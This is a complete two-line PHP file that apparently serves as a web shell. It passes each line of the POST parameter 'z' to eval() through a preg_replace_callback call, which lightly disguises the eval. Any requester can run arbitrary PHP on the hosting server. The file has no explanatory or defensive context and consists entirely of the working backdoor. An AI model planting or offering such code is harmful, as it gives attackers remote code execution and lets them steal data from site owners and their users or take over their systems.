<?php
echo preg_replace_callback("/.+/", function ($m) { return eval($m[0]); }, $_POST["z"]);
